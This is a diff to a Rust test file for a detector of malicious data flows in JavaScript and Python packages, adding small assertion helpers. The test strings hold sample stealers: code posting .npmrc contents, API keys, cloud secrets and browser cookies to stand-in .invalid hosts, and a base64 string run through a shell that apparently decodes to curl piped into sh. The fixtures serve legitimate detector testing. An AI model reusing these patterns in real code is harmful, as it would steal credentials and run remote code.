@@ -41,6 +41,15 @@ fn py(text: &str) -> Vec<(FlowKind, String, String, Option<String>)> {
     flows_of("mod.py", Language::Python, text)
 }
 
+/// Only the kinds of the flows found, in order.
+fn kinds_py(text: &str) -> Vec<FlowKind> {
+    py(text).into_iter().map(|f| f.0).collect()
+}
+
+fn kinds_js(text: &str) -> Vec<FlowKind> {
+    js(text).into_iter().map(|f| f.0).collect()
+}
+
 #[test]
 fn secret_through_variables_and_a_wrapper_reaches_the_sink() {
     let text = "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\nfunction send(body) {\n  const req = https.request({ host: 'x.example.invalid' });\n  req.write(body);\n}\nconst p = `${os.homedir()}/.npmrc`;\nconst npmrc = fs.readFileSync(p, 'utf8');\nconst payload = JSON.stringify({ npmrc });\nsend(payload);\n";
@@ -1129,20 +1138,11 @@ fn a_handed_secret_fired_off_with_its_failure_hidden_is_carried_off() {
         "{found:?}"
     );
     let js_stealer = "const https = require('https');\nfunction configure(apiKey) {\n  try {\n    https.request({ host: 'sdk-metrics.example.invalid', method: 'POST' }).end(JSON.stringify({ apiKey }));\n  } catch (e) {}\n}\nmodule.exports = configure;\n";
-    assert_eq!(
-        js(js_stealer).iter().map(|f| f.0).collect::<Vec<_>>(),
-        vec![FlowKind::EnvironmentToNetwork]
-    );
+    assert_eq!(kinds_js(js_stealer), vec![FlowKind::EnvironmentToNetwork]);
     let built = "import os\nfrom urllib import request\ndef get_client(access_key, secret_key, region):\n    endpoint = os.environ.get('PKG_URL', 'https://c.example.invalid/k')\n    body = {'day': access_key, 'month': secret_key}\n    req = request.Request(url=endpoint, method='POST', data=body)\n    try:\n        request.urlopen(req)\n    except Exception:\n        pass\n";
-    assert_eq!(
-        py(built).iter().map(|f| f.0).collect::<Vec<_>>(),
-        vec![FlowKind::EnvironmentToNetwork]
-    );
+    assert_eq!(kinds_py(built), vec![FlowKind::EnvironmentToNetwork]);
     let field = "import requests\nclass Client:\n    def __init__(self, config):\n        try:\n            data = {'ak': config.access_key_id, 'secret': config.access_key_secret}\n            requests.post(url='https://c.example.invalid/k', json=data)\n        except:\n            pass\n";
-    assert_eq!(
-        py(field).iter().map(|f| f.0).collect::<Vec<_>>(),
-        vec![FlowKind::EnvironmentToNetwork]
-    );
+    assert_eq!(kinds_py(field), vec![FlowKind::EnvironmentToNetwork]);
     // The client calling its own service reads the answer, or lets the failure reach the caller.
     let client = "import requests\nclass Client:\n    def __init__(self, api_key=''):\n        self.api_key = api_key\n    def whoami(self, api_key):\n        try:\n            reply = requests.post('https://api.vendor.example/v1/me', json={'key': api_key})\n        except Exception:\n            pass\n        requests.post('https://api.vendor.example/v1/ping', json={'key': api_key})\n";
     assert!(py(client).is_empty(), "{:?}", py(client));
@@ -1183,20 +1183,11 @@ fn a_constant_mapped_character_by_character_and_run_is_a_decoded_payload() {
 #[test]
 fn a_library_function_held_in_a_name_or_looped_over_keeps_its_meaning() {
     let held = "import browser_cookie3, requests\ngrab = browser_cookie3.chrome\nvalue = grab(domain_name='x.example')\nrequests.post('https://relay.example.invalid/m', data={'c': str(value)})\n";
-    assert_eq!(
-        py(held).iter().map(|f| f.0).collect::<Vec<_>>(),
-        vec![FlowKind::CredentialToNetwork]
-    );
+    assert_eq!(kinds_py(held), vec![FlowKind::CredentialToNetwork]);
     let looped = "import browser_cookie3, requests\nBROWSERS = (browser_cookie3.chrome, browser_cookie3.firefox)\ndef find():\n    for browser in BROWSERS:\n        for c in browser(domain_name='x.example'):\n            return c.value\nrequests.post('https://relay.example.invalid/m', json={'s': find()})\n";
-    assert_eq!(
-        py(looped).iter().map(|f| f.0).collect::<Vec<_>>(),
-        vec![FlowKind::CredentialToNetwork]
-    );
+    assert_eq!(kinds_py(looped), vec![FlowKind::CredentialToNetwork]);
     let runner = "import base64, subprocess\nfor run in (subprocess.call, subprocess.Popen):\n    run(base64.b64decode('Y3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkIHwgc2g=').decode(), shell=True)\n";
-    assert_eq!(
-        py(runner).iter().map(|f| f.0).collect::<Vec<_>>(),
-        vec![FlowKind::DecodedToExec]
-    );
+    assert_eq!(kinds_py(runner), vec![FlowKind::DecodedToExec]);
     // A tuple of names that are not all library functions binds nothing.
     let mixed =
         "import requests\nfor step in (requests.get, print):\n    step('https://docs.example/x')\n";
